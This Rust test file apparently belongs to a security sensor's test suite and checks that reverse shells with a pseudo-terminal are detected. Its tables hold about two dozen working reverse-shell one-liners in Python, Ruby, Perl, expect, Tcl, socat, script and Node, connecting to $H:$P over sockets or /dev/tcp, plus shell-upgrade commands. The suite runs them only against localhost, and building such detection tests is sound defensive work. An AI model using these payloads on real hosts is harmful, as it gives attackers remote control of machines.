//! Shells on a terminal (a pty) that an attacker made for them and carries to the peer.

use anyhow::Result;
use sensor_tests::{
    carried::PUMP,
    lab::{Lab, REVERSE},
    peer::{Listener, V4},
    process::wait_end,
    suite::Case,
};

/// The connection is on the own streams of whoever carries.
const OWN_STREAMS: [(&str, &[&str], &str); 10] = [
    (
        "python_pty_spawn",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import socket,os,pty
s=socket.socket(); s.connect((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; pty.spawn("/bin/bash")'"#,
    ),
    (
        "python_pty_spawn_sh",
        &["python3"],
        r#"/usr/bin/python3 -c 'import socket,os,pty
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; s.close(); pty.spawn(["/bin/sh","-i"])'; true"#,
    ),
    (
        "python_on_a_connection",
        &["python3"],
        r#"exec 5<>/dev/tcp/$H/$P; exec /usr/bin/python3 -c 'import pty; pty.spawn(["/bin/bash","--norc"])' <&5 >&5 2>&5"#,
    ),
    (
        "ruby_reopened",
        &["ruby"],
        r#"exec ruby -rsocket -rpty -e 's=TCPSocket.new(ENV["H"],ENV["P"]); [$stdin,$stdout,$stderr].each{|i|i.reopen(s)}
PTY.spawn("/bin/bash","--norc"){|r,w,p| Thread.new{IO.copy_stream($stdin,w)}; IO.copy_stream(r,$stdout) rescue 0}'"#,
    ),
    (
        "perl_io_pty_reopened",
        &["perl"],
        r#"exec perl -MIO::Pty -MIO::Socket -MIO::Select -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
open STDIN,"<&",$s; open STDOUT,">&",$s; open STDERR,">&",$s; close $s; $t=IO::Pty->new;
if(!fork){ $t->make_slave_controlling_terminal; $n=$t->slave; close $t;
  open STDIN,"<&",$n; open STDOUT,">&",$n; open STDERR,">&",$n; exec "/bin/sh","-i" }
$t->close_slave; $l=IO::Select->new(\*STDIN,$t);
while(1){ for $h($l->can_read){ sysread($h,$b,4096) or exit; syswrite(fileno $h==0?$t:STDOUT,$b) } }'"#,
    ),
    (
        "script",
        &["script"],
        "exec 5<>/dev/tcp/$H/$P; script -qc '/bin/bash --norc' /dev/null <&5 >&5 2>&5; true",
    ),
    (
        "script_of_the_default_shell",
        &["script"],
        "exec 5<>/dev/tcp/$H/$P; exec script -q /dev/null <&5 >&5 2>&5",
    ),
    (
        "script_opens_the_connection",
        &["script"],
        "SHELL=/bin/bash script -q /dev/null >& /dev/tcp/$H/$P 0>&1; true",
    ),
    (
        "expect_interact",
        &["expect"],
        "exec 5<>/dev/tcp/$H/$P; exec expect -c 'spawn -noecho bash --norc; interact' <&5 >&5 2>&5",
    ),
    (
        "socat_on_a_connection",
        &["socat"],
        "exec 5<>/dev/tcp/$H/$P; exec socat STDIO EXEC:'bash --norc -i',pty,stderr,setsid,sigint,sane <&5 >&5 2>&5",
    ),
];

/// The connection stays on a descriptor of its own.
const OWN_DESCRIPTOR: [(&str, &[&str], &str); 10] = [
    (
        "python_openpty",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,pty,select,socket,subprocess
m,n=pty.openpty(); s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
p=subprocess.Popen(["/bin/bash","--norc","-i"],stdin=n,stdout=n,stderr=n,start_new_session=True); os.close(n)
while True:
  for f in select.select([s,m],[],[])[0]:
    b=s.recv(4096) if f is s else os.read(m,4096)
    if not b: raise SystemExit
    os.write(m,b) if f is s else s.sendall(b)'"#,
    ),
    (
        "python_pty_fork",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,pty,threading,socket
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
p,m=pty.fork()
if p==0: os.execv("/bin/sh",["sh","-i"])
def down():
  while b:=s.recv(4096): os.write(m,b)
threading.Thread(target=down,daemon=True).start()
while b:=os.read(m,4096): s.sendall(b)'"#,
    ),
    (
        "python_pty_before_the_connection",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,pty,select,socket
p,m=pty.fork()
if p==0: os.execv("/bin/bash",["bash","--norc"])
select.select([m],[],[])
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
while True:
  for f in select.select([s,m],[],[])[0]:
    b=os.read(f if f is m else s.fileno(),4096)
    if not b: raise SystemExit
    os.write(m if f is s else s.fileno(),b)'"#,
    ),
    (
        "ruby_pty_spawn",
        &["ruby"],
        r#"exec ruby -rsocket -rpty -e 's=TCPSocket.new(ENV["H"],ENV["P"])
PTY.spawn("/bin/sh"){|r,w,p| Thread.new{IO.copy_stream(s,w)}; IO.copy_stream(r,s) rescue 0}'"#,
    ),
    (
        "perl_io_pty",
        &["perl"],
        r#"exec perl -MIO::Pty -MIO::Socket -MIO::Select -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}"); $t=IO::Pty->new;
if(!fork){ $t->make_slave_controlling_terminal; $n=$t->slave; close $t; close $s;
  open STDIN,"<&",$n; open STDOUT,">&",$n; open STDERR,">&",$n; exec "/bin/bash","--norc" }
$t->close_slave; $l=IO::Select->new($s,$t);
while(1){ for $h($l->can_read){ sysread($h,$b,4096) or exit; syswrite($h==$s?$t:$s,$b) } }'"#,
    ),
    // By hand: unlock the terminal, ask for its number.
    (
        "perl_dev_ptmx",
        &["perl"],
        r#"exec perl -MIO::Socket -MIO::Select -MPOSIX -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
open $t,"+<","/dev/ptmx"; ioctl $t,0x40045431,$z=pack("i",0); ioctl $t,0x80045430,$n=pack("i",0); $n=unpack("i",$n);
if(!fork){ POSIX::setsid; open STDIN,"+<","/dev/pts/$n"; open STDOUT,">&STDIN"; open STDERR,">&STDIN"; exec "/bin/sh","-i" }
$l=IO::Select->new($s,$t);
while(1){ for $h($l->can_read){ sysread($h,$b,4096) or exit; syswrite($h==$s?$t:$s,$b) } }'"#,
    ),
    (
        "expect_between_two",
        &["expect"],
        "exec expect -c 'set s [socket $env(H) $env(P)]; fconfigure $s -buffering none -translation binary
spawn -noecho -open $s; set net $spawn_id; spawn -noecho bash --norc; interact -u $net'",
    ),
    (
        "tcl_expect_package",
        &["tclsh", "expect"],
        r#"exec tclsh <<'END'
package require Expect
log_user 0
set s [socket $env(H) $env(P)]; fconfigure $s -blocking 0 -buffering none -translation binary
spawn -noecho /bin/sh -i; set shell $spawn_id
fileevent $s readable { if {[eof $s]} exit; exp_send -i $shell -- [read $s] }
while 1 { expect -i $shell -timeout -1 -re .+ { puts -nonewline $s $expect_out(0,string) } eof exit }
END"#,
    ),
    (
        "script_between_two_pumps",
        &["script"],
        "exec 5<>/dev/tcp/$H/$P; cat <&5 | script -qfc 'bash --norc' /dev/null | cat >&5; true",
    ),
    (
        "node_script",
        &["node", "script"],
        r#"exec node -e 'const {spawn}=require("child_process"), s=require("net").connect(process.env.P,process.env.H,()=>{
const c=spawn("script",["-qfc","/bin/bash --norc","/dev/null"]); s.pipe(c.stdin); c.stdout.pipe(s); c.on("exit",()=>s.end()) })'"#,
    ),
];

/// What is typed into a reverse shell to get a terminal.
const UPGRADES: [(&str, &[&str], &str); 6] = [
    (
        "python",
        &["python3"],
        r#"/usr/bin/python3 -c 'import pty; pty.spawn("/bin/bash")'"#,
    ),
    ("script", &["script"], "script -qc /bin/bash /dev/null"),
    ("script_exec", &["script"], "exec script -q /dev/null"),
    ("expect", &["expect"], "expect -c 'spawn -noecho bash --norc; interact'"),
    (
        "socat",
        &["socat"],
        "socat STDIO EXEC:'bash --norc -i',pty,stderr,setsid,sane",
    ),
    (
        "ruby",
        &["ruby"],
        r#"ruby -rpty -e 'PTY.spawn("/bin/bash"){|r,w,p| Thread.new{IO.copy_stream($stdin,w)}; IO.copy_stream(r,$stdout) rescue 0}'"#,
    ),
];

/// A takeover that gets a terminal stays one takeover.
fn upgrade(lab: &Lab<'_>, typed: &str) -> Result<()> {
    let mut peer = lab.calls(
        &Listener::tcp(V4)?,
        "127.0.0.1",
        "exec 5<>/dev/tcp/$H/$P; exec sh <&5 >&5 2>&5",
    )?;
    let shell = peer.shell()?;
    let finding = lab.finding(peer.ends(), REVERSE)?;
    lab.same(&finding, &shell)?;
    peer.last_line(typed)?;
    let upgraded = peer.shell()?;
    anyhow::ensure!(upgraded.pid != shell.pid, "no other shell than before answers");
    for _ in 0..3 {
        peer.id()?;
    }
    peer.last_line("exit")?;
    wait_end(upgraded.pid)?;
    drop(peer);
    lab.ended(&finding)?;
    Ok(())
}

/// The compiled `terminal.c`.
fn native(lab: &Lab<'_>, way: &str) -> Result<sensor_tests::peer::Peer> {
    let listener = Listener::tcp(V4)?;
    let program = lab.programs.c("terminal.c", &[])?;
    let port = listener.port()?.to_string();
    lab.spawn(
        lab.command(program)?
            .args([way, "127.0.0.1", &port, "/bin/bash", "--norc", "-i"]),
    )?;
    listener.accept()
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in OWN_STREAMS {
        cases.push(Case::new(format!("terminal::{name}"), tools, move |lab| {
            lab.carried(lab.calls(&Listener::tcp(V4)?, "127.0.0.1", script)?, REVERSE)
        }));
    }
    for (name, tools, script) in OWN_DESCRIPTOR {
        cases.push(Case::new(format!("terminal_pump::{name}"), tools, move |lab| {
            lab.pumped(lab.calls(&Listener::tcp(V4)?, "127.0.0.1", script)?, PUMP)
        }));
    }
    for (name, tools, typed) in UPGRADES {
        cases.push(Case::new(format!("terminal_upgrade::{name}"), tools, move |lab| {
            upgrade(lab, typed)
        }));
    }
    cases.push(Case::new("terminal::forkpty", &["gcc"], |lab| {
        lab.carried(native(lab, "dup")?, REVERSE)
    }));
    cases.push(Case::new("terminal_pump::forkpty", &["gcc"], |lab| {
        lab.pumped(native(lab, "keep")?, PUMP)
    }));
    cases
}
